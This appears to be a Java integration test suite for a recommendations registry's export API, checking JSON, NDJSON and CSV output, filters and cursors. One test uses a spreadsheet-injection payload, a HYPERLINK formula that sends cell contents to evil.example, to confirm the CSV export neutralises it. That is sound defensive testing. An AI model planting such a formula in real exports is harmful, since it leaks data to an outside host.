package org.recsregistry.export;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;
import org.recsregistry.change.FeedFixtures;
import org.recsregistry.status.Status;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasItems;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

@QuarkusTest
class ExportTest {

    private static final String EXPORT = "/api/v1/export";
    private static final String LIST = "/api/v1/recommendations";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    @Inject
    FeedFixtures fixtures;

    @Test
    void shouldExportAsJsonExactlyTheRecordsOfTheList() throws IOException {
        Response response = given().get(EXPORT);
        response.then().statusCode(200).contentType(startsWith("application/json"));
        JsonNode document = JSON.readTree(response.asByteArray());
        String cursor = response.header(ExportResource.FEED_CURSOR);
        assertEquals(cursor, document.get("cursor").asText());
        response.then().header("Content-Disposition", is("attachment; filename=\"registry-" + cursor + ".json\""));
        assertEquals(expected(""), byId(document.get("items")));
    }

    @Test
    void shouldExportAsNdjsonOneRecordPerLine() throws IOException {
        Response response = given().get(EXPORT + "?format=ndjson");
        response.then().statusCode(200).contentType(startsWith("application/x-ndjson"))
                .header("Content-Disposition", containsString(".ndjson\""));
        String body = response.asString();
        assertTrue(body.endsWith("\n"));
        ArrayNode items = JSON.createArrayNode();
        for (String line : body.split("\n")) {
            JsonNode record = JSON.readTree(line);
            assertTrue(record.has("id"), "every line is a record: " + line);
            items.add(record);
        }
        assertEquals(expected(""), byId(items));
    }

    @Test
    void shouldExportAsCsvThatParsesBackToTheSameFields() {
        Response response = given().get(EXPORT + "?format=csv");
        response.then().statusCode(200).contentType(is("text/csv; charset=UTF-8"))
                .header("Content-Disposition", containsString(".csv\""));
        byte[] bytes = response.asByteArray();
        assertFalse(startsWithBom(bytes), "no BOM unless asked for");
        List<List<String>> rows = Rfc4180.parse(new String(bytes, StandardCharsets.UTF_8));
        assertEquals(CsvExportWriter.HEADER, rows.get(0));
        Map<String, List<String>> exported = rows.subList(1, rows.size()).stream()
                .collect(Collectors.toMap(row -> row.get(0), row -> row, (a, b) -> a, LinkedHashMap::new));
        assertEquals(rows.size() - 1, exported.size(), "one row per recommendation");
        Map<String, List<String>> expected = new LinkedHashMap<>();
        expected("").forEach((id, record) -> expected.put(id, csvRow(record)));
        assertEquals(expected, exported);
        assertTrue(exported.values().stream().anyMatch(row -> row.get(3).contains(",")), "a text with a comma");
        assertTrue(exported.values().stream().anyMatch(row -> row.get(5).contains("\"")), "a summary with quotes");
    }

    /** The dataset has no line breaks in its texts, so one is put in for the test and taken out again. */
    @Test
    void shouldRoundTripTextWithLineBreaksQuotesAndCommasThroughCsv() {
        String id = "38north-2014-eu-dialogue-restart-dialogue";
        String awkward = "First line, with a comma\r\nsecond \"quoted\" line\nthird line";
        String before = fixtures.setText(id, awkward);
        try {
            String csv = given().get(EXPORT + "?format=csv&source=38north-2014-eu-dialogue").asString();
            List<String> row = Rfc4180.parse(csv).stream().filter(r -> r.get(0).equals(id)).findFirst().orElseThrow();
            assertEquals(awkward, row.get(3));
            assertTrue(csv.contains("\"First line, with a comma\r\nsecond \"\"quoted\"\" line\nthird line\""));
        } finally {
            fixtures.setText(id, before);
        }
    }

    @Test
    void shouldNeutraliseASummaryThatASpreadsheetWouldRunAsAFormula() {
        String id = "38north-2014-eu-dialogue-transparency";
        String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for the source\")";
        String before = fixtures.setSummary(id, formula);
        try {
            String csv = given().get(EXPORT + "?format=csv&source=38north-2014-eu-dialogue").asString();
            List<String> row = Rfc4180.parse(csv).stream().filter(r -> r.get(0).equals(id)).findFirst().orElseThrow();
            assertEquals("'" + formula, row.get(5), "the cell is text to a spreadsheet, not a formula");
            assertTrue(Rfc4180.parse(csv).stream().skip(1).flatMap(List::stream)
                    .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0),
                    "no cell starts with a formula character");
            JsonNode json = readTree(given().get(EXPORT + "?source=38north-2014-eu-dialogue").asByteArray());
            json.get("items").forEach(item -> {
                if (item.get("id").asText().equals(id)) {
                    assertEquals(formula, item.get("summary").asText(), "JSON keeps the text as it is");
                }
            });
        } finally {
            fixtures.setSummary(id, before);
        }
    }

    @Test
    void shouldFilterByTheKindOfSourceBehindTheCurrentStatuses() throws IOException {
        JsonNode document = JSON.readTree(given().get(EXPORT + "?evidenceKind=un_mandate&evidenceKind=un_body")
                .then().statusCode(200).extract().asByteArray());
        assertTrue(document.get("items").size() > 0, "some statuses rest on UN documents");
        document.get("items").forEach(item -> {
            boolean some = false;
            for (JsonNode a : item.get("addressees")) {
                JsonNode e = a.get("statusEvidence");
                some |= !e.isNull() && List.of("un_mandate", "un_body").contains(e.get("kind").asText());
            }
            assertTrue(some, item.get("id").asText() + " has a status resting on a UN document");
        });
        long all = JSON.readTree(given().get(EXPORT).asByteArray()).get("items").size();
        assertTrue(document.get("items").size() < all, "the filter leaves some records out");
        given().get(EXPORT + "?evidenceKind=rumour").then().statusCode(400)
                .body("invalidParams[0].name", is("evidenceKind"));
    }

    @Test
    void shouldStartWithAByteOrderMarkOnlyWhenAsked() {
        byte[] withBom = given().get(EXPORT + "?format=csv&bom=true").then().statusCode(200).extract().asByteArray();
        assertTrue(startsWithBom(withBom));
        String rest = new String(withBom, 3, withBom.length - 3, StandardCharsets.UTF_8);
        assertEquals(CsvExportWriter.HEADER, Rfc4180.parse(rest).get(0));
        assertFalse(startsWithBom(given().get(EXPORT + "?format=csv&bom=false").asByteArray()));
    }

    @Test
    void shouldFilterAsTheListDoes() throws IOException {
        for (String filter : List.of("addressee=CHN&addressee=KOR", "status=rejected", "status=not_implemented&status=rejected",
                "addressee=DPRK&status=rejected", "source=coi-2014", "source=coi-2014&source=r2p-2020-dprk",
                "theme=accountability", "theme=accountability&source=coi-2014&addressee=DPRK")) {
            Map<String, JsonNode> expected = expected(filter);
            assertFalse(expected.isEmpty(), "the filter " + filter + " should match something");
            JsonNode document = JSON.readTree(given().get(EXPORT + "?" + filter).then().statusCode(200)
                    .extract().asByteArray());
            assertEquals(expected, byId(document.get("items")), "export with " + filter);
            long csvRows = Rfc4180.parse(given().get(EXPORT + "?format=csv&" + filter).asString()).size() - 1;
            assertEquals(expected.size(), csvRows, "csv rows with " + filter);
        }
    }

    @Test
    void shouldRejectUnknownCodesAndBadParametersWithAProblem() {
        given().get(EXPORT + "?addressee=XXX&source=nowhere&theme=nothing&addressee=CHN")
                .then().statusCode(400).contentType(startsWith("application/problem+json"))
                .body("status", is(400))
                .body("invalidParams.name", hasItems("addressee", "source", "theme"))
                .body("invalidParams.reason", hasItems("unknown addressee 'XXX'"));
        given().get(EXPORT + "?format=xml").then().statusCode(400)
                .contentType(startsWith("application/problem+json")).body("invalidParams[0].name", is("format"));
        given().get(EXPORT + "?format=csv&format=json").then().statusCode(400).body("invalidParams[0].name", is("format"));
        given().get(EXPORT + "?status=lost").then().statusCode(400).body("invalidParams[0].name", is("status"));
        given().get(EXPORT + "?format=csv&bom=yes").then().statusCode(400).body("invalidParams[0].name", is("bom"));
        given().get(EXPORT + "?bom=true").then().statusCode(400).body("invalidParams[0].reason", containsString("csv"));
    }

    @Test
    void shouldGiveTheFeedHeadAsCursorInEveryFormat() {
        String head = FeedFixtures.walkedFeedHead();
        for (String format : List.of("json", "ndjson", "csv")) {
            given().get(EXPORT + "?format=" + format).then().statusCode(200)
                    .header(ExportResource.FEED_CURSOR, is(head))
                    .header("Content-Disposition", is("attachment; filename=\"registry-" + head + "." + format + "\""));
        }
    }

    @Test
    void shouldBeFollowedByExactlyTheChangesCommittedAfterIt() throws IOException {
        Response export = given().get(EXPORT + "?format=ndjson");
        String cursor = export.header(ExportResource.FEED_CURSOR);
        String first = JSON.readTree(export.asString().split("\n")[0]).get("id").asText();
        fixtures.updated(first);
        fixtures.statusChanged("coi-2014-90-a", "CHN", Status.NOT_IMPLEMENTED, Status.REJECTED, "Follow test", "x");

        Response follow = given().get("/api/v1/changes?since=" + cursor);
        follow.then().statusCode(200).body("hasMore", is(false))
                .body("items.kind", org.hamcrest.Matchers.contains("updated", "status_changed"))
                .body("items.recommendationId", org.hamcrest.Matchers.contains(first, "coi-2014-90-a"));
        String next = follow.jsonPath().getString("nextCursor");
        assertTrue(Long.parseLong(next) > Long.parseLong(cursor));
        given().get(EXPORT + "?format=csv").then().header(ExportResource.FEED_CURSOR, is(next));
        given().get("/api/v1/changes?since=" + next).then().body("items.size()", is(0));
    }

    @Test
    void shouldAnswerNotModifiedWhileTheRegistryIsUnchanged() {
        String etag = given().get(EXPORT + "?format=csv").then().statusCode(200).extract().header("ETag");
        given().header("If-None-Match", etag).get(EXPORT + "?format=csv").then().statusCode(304);
    }

    /** What the export should hold for a filter: the list's records (walked page by page) with their outgoing links. */
    private static Map<String, JsonNode> expected(String filter) {
        Map<String, JsonNode> records = new LinkedHashMap<>();
        String cursor = null;
        do {
            String url = LIST + "?limit=50" + (filter.isEmpty() ? "" : "&" + filter)
                    + (cursor == null ? "" : "&cursor=" + cursor);
            JsonNode page = readTree(given().get(url).then().statusCode(200).extract().asByteArray());
            for (JsonNode item : page.get("items")) {
                records.put(item.get("id").asText(), exportShape(item));
            }
            cursor = page.get("nextCursor").isNull() ? null : page.get("nextCursor").asText();
        } while (cursor != null);
        return records;
    }

    private static JsonNode exportShape(JsonNode item) {
        ObjectNode record = JSON.createObjectNode();
        for (String field : List.of("id", "locator", "text", "textVerified", "summary", "overallStatus")) {
            record.set(field, item.get(field));
        }
        record.put("sourceId", item.get("source").get("id").asText());
        JsonNode detail = readTree(given().get(LIST + "/" + item.get("id").asText()).asByteArray());
        ArrayNode addressees = record.putArray("addressees");
        item.get("addressees").forEach(a -> {
            ObjectNode addressee = addressees.addObject()
                    .put("code", a.get("code").asText()).put("status", a.get("status").asText());
            addressee.set("statusSince", a.get("statusSince"));
            addressee.set("statusEvidence", currentEvidence(detail, a.get("code").asText()));
        });
        record.set("themes", item.get("themes"));
        ArrayNode links = record.putArray("links");
        detail.get("links").forEach(l -> {
            if (l.get("direction").asText().equals("outgoing")) {
                links.addObject().put("relation", l.get("relation").asText())
                        .put("target", l.get("recommendationId").asText());
            }
        });
        for (String field : List.of("createdAt", "updatedAt", "version")) {
            record.set(field, item.get(field));
        }
        return record;
    }

    /** The citation of the pair's latest event (by effective date, then id), as the export gives it; null if none. */
    private static JsonNode currentEvidence(JsonNode detail, String addressee) {
        JsonNode latest = null;
        for (JsonNode event : detail.get("history")) {
            if (event.get("addressee").asText().equals(addressee) && (latest == null
                    || event.get("effectiveDate").asText().compareTo(latest.get("effectiveDate").asText()) > 0
                    || (event.get("effectiveDate").asText().equals(latest.get("effectiveDate").asText())
                    && event.get("id").asLong() > latest.get("id").asLong()))) {
                latest = event;
            }
        }
        if (latest == null) {
            return JSON.nullNode();
        }
        ObjectNode evidence = JSON.createObjectNode();
        for (String field : List.of("kind", "date", "datePrecision", "url")) {
            evidence.set(field, latest.get("evidence").get(field));
        }
        return evidence;
    }

    private static List<String> csvRow(JsonNode r) {
        List<String> addressees = new ArrayList<>();
        List<String> since = new ArrayList<>();
        List<String> kinds = new ArrayList<>();
        List<String> dates = new ArrayList<>();
        List<String> urls = new ArrayList<>();
        r.get("addressees").forEach(a -> {
            String code = a.get("code").asText() + ":";
            addressees.add(code + a.get("status").asText());
            since.add(code + (a.get("statusSince").isNull() ? "" : a.get("statusSince").asText()));
            JsonNode e = a.get("statusEvidence");
            kinds.add(code + (e.isNull() || e.get("kind").isNull() ? "" : e.get("kind").asText()));
            dates.add(code + (e.isNull() || e.get("date").isNull() ? "" : atPrecision(e)));
            urls.add(code + (e.isNull() || e.get("url").isNull() ? "" : e.get("url").asText()));
        });
        List<String> themes = new ArrayList<>();
        r.get("themes").forEach(t -> themes.add(t.asText()));
        List<String> links = new ArrayList<>();
        r.get("links").forEach(l -> links.add(l.get("relation").asText() + ":" + l.get("target").asText()));
        return List.of(r.get("id").asText(), r.get("sourceId").asText(), r.get("locator").asText(),
                r.get("text").asText(), r.get("textVerified").asText(), r.get("summary").asText(),
                r.get("overallStatus").asText(), String.join("; ", addressees), String.join("; ", since),
                String.join("; ", kinds), String.join("; ", dates), String.join("; ", urls), String.join("; ", themes), String.join("; ", links), r.get("createdAt").asText(),
                r.get("updatedAt").asText(), r.get("version").asText());
    }

    /** 2024-06-12, 2024-06 or 2024, as the CSV writes a date known to a day, a month or a year. */
    private static String atPrecision(JsonNode evidence) {
        String date = evidence.get("date").asText();
        return switch (evidence.get("datePrecision").asText()) {
            case "month" -> date.substring(0, 7);
            case "year" -> date.substring(0, 4);
            default -> date;
        };
    }

    private static Map<String, JsonNode> byId(JsonNode items) {
        Map<String, JsonNode> records = new LinkedHashMap<>();
        items.forEach(item -> assertEquals(null, records.put(item.get("id").asText(), item), "duplicate"));
        return records;
    }

    private static JsonNode readTree(byte[] bytes) {
        try {
            return JSON.readTree(bytes);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static boolean startsWithBom(byte[] bytes) {
        return bytes.length >= 3 && java.util.Arrays.equals(java.util.Arrays.copyOf(bytes, 3), BOM);
    }
}
